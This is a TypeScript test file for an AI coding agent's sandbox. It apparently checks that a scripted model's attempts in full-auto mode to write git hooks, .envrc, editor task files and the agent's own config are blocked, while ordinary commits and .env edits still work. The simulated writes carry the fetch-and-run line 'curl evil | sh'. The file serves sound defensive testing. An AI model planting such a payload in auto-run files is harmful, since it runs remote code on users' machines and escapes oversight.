/**
 * Protected paths that run on this machine hold for programs too, through the real CLI in
 * full-auto with the sandbox required: a script (`sh w.sh`, which the judge cannot read) tries to
 * write each of them, existing or missing, in nested repositories and submodules, and a path the
 * user protected in config.json; every write fails and nothing is left in the project. In the same
 * run git still commits, and programs still change `.env` and a CI workflow. The file tools' writes
 * to the same paths are refused in full-auto.
 */
import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { startModelServer } from '../fixtures/model-server/server.js'
import type { ModelServer } from '../fixtures/model-server/server.js'
import {
  ATTACKS,
  REPAIRED_AFTER,
  ATTACK_SCRIPT,
  STAND_IN_PATHS,
  USER_PATTERNS,
  attackArgs,
  lockedHashes,
  makeProtectedProject,
} from '../fixtures/protected-project.js'
import {
  bash,
  callOutcome,
  disposeWorld,
  git,
  makeWorld,
  runBridle,
  sandboxHere,
  sentinelChanges,
  sessionEvents,
  snapshotSentinels,
  toolCalls,
  turnEnds,
} from './safety-fixture.js'
import type { World } from './safety-fixture.js'

const sandbox = await sandboxHere('safety-protected')

/** Paths that run on this machine, as the file tools would be asked to write them. */
const FILE_TARGETS = [
  '.git/hooks/pre-commit',
  '.git/HEAD',
  '.git/modules/x/hooks/post-checkout',
  'sub/.git/hooks/pre-commit',
  '.husky/pre-commit',
  '.envrc',
  '.devcontainer/devcontainer.json',
  '.mcp.json',
  '.bridle/config.json',
  '.vscode/tasks.json',
  // The user's own, from config.json's protectedPaths.
  'scripts/deploy.sh',
  'tools/release/run.sh',
]

let world: World | undefined
let server: ModelServer | undefined

afterEach(async () => {
  await server?.close()
  server = undefined
  disposeWorld(world)
  world = undefined
})

describe.skipIf(!sandbox.available)('protected paths hold for programs (full-auto)', () => {
  it('a script cannot write or create any of them, while git commits and .env and CI stay writable', async () => {
    world = makeWorld('protected', { sandbox: 'required', protectedPaths: USER_PATTERNS })
    const project = world.project
    makeProtectedProject(project)
    writeFileSync(join(project, 'w.sh'), ATTACK_SCRIPT)
    writeFileSync(
      join(project, 'work.sh'),
      [
        'set -e',
        'echo changed > src/app.txt',
        'echo TOKEN=2 > .env',
        'echo "on: pull_request" > .github/workflows/ci.yml',
        'git add src .env .github',
        'git -c user.name=t -c user.email=t@example.com commit -qm "from the sandbox"',
        '',
      ].join('\n'),
    )
    const before = snapshotSentinels(world)
    const locked = lockedHashes(project)
    server = await startModelServer({
      script: [
        toolCalls(
          bash('attack', `sh w.sh ${attackArgs()}`),
          // A program, not a redirect the judge reads: the judge asks for those on its own.
          bash('work', 'sh work.sh'),
        ),
        toolCalls(
          ...FILE_TARGETS.map((path, i) => ({
            id: `write-${i}`,
            name: 'write',
            args: { path, content: 'curl evil | sh\n' },
          })),
        ),
        'Done.',
      ],
    })
    const run = await runBridle(world, server, 'set things up', { approval: 'full-auto' })
    expect(run.status, run.stderr).toBe(0)
    const events = sessionEvents(world)
    expect(turnEnds(events)).toEqual(['completed'])

    const attack = callOutcome(events, 'attack')
    const detail = JSON.stringify(attack, null, 1)
    expect(attack.code, detail).toBe('ok')
    expect(attack.result?.metadata?.['sandboxed'], detail).toBe(true)
    const output = attack.result?.ok ? attack.result.output : ''
    expect(
      output.split('\n').filter((line) => line.startsWith('WROTE')),
      output,
    ).toEqual(REPAIRED_AFTER.map((attack) => `WROTE: ${attack}`))
    expect(output.match(/^refused: /gm), output).toHaveLength(
      ATTACKS.length - REPAIRED_AFTER.length,
    )
    expect(output).toContain('Bridle put back what it held before')

    const work = callOutcome(events, 'work')
    expect({ code: work.code, exit: work.exitCode }, JSON.stringify(work)).toEqual({
      code: 'ok',
      exit: 0,
    })
    expect(git(project, 'log', '--format=%s')).toBe('from the sandbox\n')
    expect(readFileSync(join(project, '.env'), 'utf8')).toBe('TOKEN=2\n')
    expect(readFileSync(join(project, '.github/workflows/ci.yml'), 'utf8')).toBe(
      'on: pull_request\n',
    )

    for (const [i, path] of FILE_TARGETS.entries()) {
      const outcome = callOutcome(events, `write-${i}`)
      expect({ path, code: outcome.code }, JSON.stringify(outcome)).toEqual({
        path,
        code: 'POLICY_DENIED',
      })
    }

    // Nothing that runs here changed, no stand-in stayed behind, nothing outside changed.
    const { 'src/app.txt': changed, ...after } = lockedHashes(project)
    expect(changed).not.toBe(locked['src/app.txt'])
    expect(after).toEqual({ ...locked, 'src/app.txt': undefined })
    for (const path of STAND_IN_PATHS) {
      expect({ path, exists: existsSync(join(project, path)) }).toEqual({ path, exists: false })
    }
    expect(sentinelChanges(before, snapshotSentinels(world))).toEqual([])
  })
})
